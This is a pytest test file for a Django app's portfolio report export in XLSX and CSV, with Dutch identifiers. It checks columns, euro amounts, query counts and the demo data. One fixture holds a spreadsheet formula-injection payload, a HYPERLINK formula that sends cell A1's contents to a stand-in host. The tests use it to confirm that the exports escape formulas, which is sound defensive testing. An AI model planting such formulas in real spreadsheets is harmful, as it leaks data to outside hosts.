"""The portfolio report (``rapportage.bouwers.portfolio``): XLSX and CSV with one row
per opgave and the dashboard's figures, formula-safe, through the engine, with a
constant number of queries; and the demo. (Helper "portfolio".)"""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

import pytest
from openpyxl import load_workbook

from accounts.models import User
from budget.models import Budgetpot
from opgaven.models import Doel, Opgave, Thema, Toezegging
from rapportage import services
from rapportage.bouwers import bouwer_voor, formaten
from rapportage.models import Doelstatus, Formaat, Rapport, Soort
from tests.factories import OpgaveFactory

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("https://kwaad.example/?"&A1,"Klik hier")'


@pytest.fixture
def gevuld(opgave, budgetpot, ronde, inbreng, regisseur, andere_opgave):
    """``opgave``: pot 80.000 / 20.000 / 12.000, red goal, open round with one recent
    input, one overdue commitment, theme Energie; ``andere_opgave`` bare; and an
    opgave whose title is a formula."""
    Budgetpot.objects.filter(pk=budgetpot.pk).update(
        toegewezen=Decimal("20000.00"), besteed=Decimal("12000.00")
    )
    Doelstatus.objects.create(
        doel=Doel.objects.create(opgave=opgave, titel="Minder gas"),
        kleur=Doelstatus.Kleur.ROOD,
        toelichting="Achter op schema.",
    )
    Toezegging.objects.create(
        opgave=opgave,
        omschrijving="Subsidieregeling uitzoeken",
        eigenaar=regisseur,
        deadline=timezone.localdate() - timedelta(days=2),
    )
    opgave.themas.add(Thema.objects.create(naam="Energie", slug="energie"))
    OpgaveFactory(titel=FORMULE, slug="formule")
    return opgave


def bouw(formaat: str) -> tuple[bytes, str, list[int]]:
    stappen: list[int] = []
    rapport = Rapport(soort=Soort.PORTFOLIO, formaat=formaat)
    uit = io.BytesIO()
    with translation.override("en"):
        naam = bouwer_voor(Soort.PORTFOLIO, formaat)(rapport, uit, stappen.append)
    return uit.getvalue(), naam, stappen


def test_offers_xlsx_and_csv():
    assert formaten(Soort.PORTFOLIO) == [Formaat.XLSX, Formaat.CSV]


def test_xlsx_has_a_row_per_opgave_with_the_figures(gevuld, andere_opgave):
    inhoud, naam, stappen = bouw(Formaat.XLSX)
    assert naam == f"portfolio-{timezone.localdate():%Y-%m-%d}.xlsx"
    assert stappen
    assert all(0 <= stap <= 99 for stap in stappen)
    blad = load_workbook(io.BytesIO(inhoud)).active
    rijen = [[cel.value for cel in rij] for rij in blad.iter_rows()]
    assert rijen[0][:3] == ["Opgave", "Phase", "Status of the goals"]
    assert rijen[0][9] == "Inputs in the last 30 days"
    assert len(rijen) == 1 + Opgave.objects.count() == 4
    per_titel = {rij[0]: rij for rij in rijen[1:]}
    assert per_titel[gevuld.titel] == [
        gevuld.titel,
        "Carrying out",
        "Red",
        "Energie",
        None,  # no areas
        80000,
        20000,
        12000,
        15,
        1,
        1,
        1,
        "no",
    ]
    assert per_titel[andere_opgave.titel][1:3] == ["Sharing", "No status"]
    # Without a pot the amounts stay empty, not 0.
    assert per_titel[andere_opgave.titel][5:9] == [None, None, None, None]
    # Amounts are numbers in the euro format.
    bedrag = next(r for r in blad.iter_rows(min_row=2) if r[0].value == gevuld.titel)[5]
    assert bedrag.data_type == "n"
    assert "€" in bedrag.number_format


def test_xlsx_keeps_a_formula_title_as_text(gevuld):
    inhoud, _naam, _stappen = bouw(Formaat.XLSX)
    blad = load_workbook(io.BytesIO(inhoud)).active
    cellen = [rij[0] for rij in blad.iter_rows(min_row=2)]
    formule = next(cel for cel in cellen if "HYPERLINK" in str(cel.value))
    assert formule.value == "'" + FORMULE
    assert formule.data_type == "s"


def test_csv_is_dutch_style_and_formula_safe(gevuld, andere_opgave):
    inhoud, naam, _stappen = bouw(Formaat.CSV)
    assert naam.endswith(".csv")
    tekst = inhoud.decode("utf-8")
    assert tekst.startswith("\ufeff")
    rijen = list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=";"))
    assert rijen[0][0] == "Opgave"
    assert len(rijen) == 4
    per_titel = {rij[0]: rij for rij in rijen[1:]}
    rij = per_titel[gevuld.titel]
    assert rij[1:3] == ["Carrying out", "Red"]
    assert rij[5:8] == ["80000,00", "20000,00", "12000,00"]
    assert rij[8:] == ["15", "1", "1", "1", "nee"]
    assert per_titel[andere_opgave.titel][5:9] == ["", "", "", ""]
    assert "'" + FORMULE in per_titel
    assert FORMULE not in per_titel


def _queries(formaat: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        bouw(formaat)
    return len(queries)


def test_query_count_does_not_grow_with_the_opgaven(organisatie):
    vandaag = timezone.localdate()

    def vul(nummers):
        for i in nummers:
            opgave = OpgaveFactory(titel=f"Vol {i:02d}")
            Budgetpot.objects.create(
                opgave=opgave,
                naam=f"Pot {i}",
                kassier=organisatie,
                begin=vandaag,
                eind=vandaag,
                bijgedragen=Decimal(1000),
            )
            opgave.themas.add(Thema.objects.get_or_create(naam="Wonen", slug="wonen")[0])
            Doelstatus.objects.create(
                doel=Doel.objects.create(opgave=opgave, titel="Doel"),
                kleur=Doelstatus.Kleur.GROEN,
                toelichting="-",
            )

    vul(range(2))
    weinig = {formaat: _queries(formaat) for formaat in (Formaat.XLSX, Formaat.CSV)}
    vul(range(2, 12))
    veel = {formaat: _queries(formaat) for formaat in (Formaat.XLSX, Formaat.CSV)}
    assert weinig == veel


def test_through_the_engine(gevuld, ambtenaar):
    rapport = services.rapport_aanvragen(door=ambtenaar, soort=Soort.PORTFOLIO, formaat="csv")
    assert services.rapport_bouwen(rapport_id=rapport.pk)
    rapport.refresh_from_db()
    assert rapport.status == Rapport.Status.KLAAR, rapport.fout
    assert rapport.bestandsnaam.startswith("portfolio-")
    with rapport.bestand.open("rb") as bestand:
        tekst = bestand.read().decode("utf-8")
    # Built in the site's language (Dutch); the figures are there.
    assert gevuld.titel in tekst
    assert "80000,00" in tekst


def test_demo_page_and_report(client, mailoutbox, settings):
    settings.REQUIRE_MFA_FOR_STAFF = False  # the demo officials have no authenticator app
    call_command("demo", verbosity=0)
    ambtenaar = User.objects.get(email="ambtenaar@demodam.nl")
    client.force_login(ambtenaar)
    response = client.get(reverse("rapportage:portfolio"), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    html = response.content.decode()
    opgaven = list(Opgave.objects.all())
    assert opgaven
    for opgave in opgaven:
        assert opgave.titel in html
    for formaat in (Formaat.XLSX, Formaat.CSV):
        rapport = services.rapport_aanvragen(door=ambtenaar, soort=Soort.PORTFOLIO, formaat=formaat)
        assert services.rapport_bouwen(rapport_id=rapport.pk)
        rapport.refresh_from_db()
        assert rapport.status == Rapport.Status.KLAAR, rapport.fout
        with rapport.bestand.open("rb") as bestand:
            inhoud = bestand.read()
        if formaat == Formaat.XLSX:
            rijen = list(load_workbook(io.BytesIO(inhoud)).active.iter_rows(values_only=True))
        else:
            rijen = list(
                csv.reader(io.StringIO(inhoud.decode("utf-8").lstrip("\ufeff")), delimiter=";")
            )
        assert sorted(rij[0] for rij in rijen[1:]) == sorted(o.titel for o in opgaven)
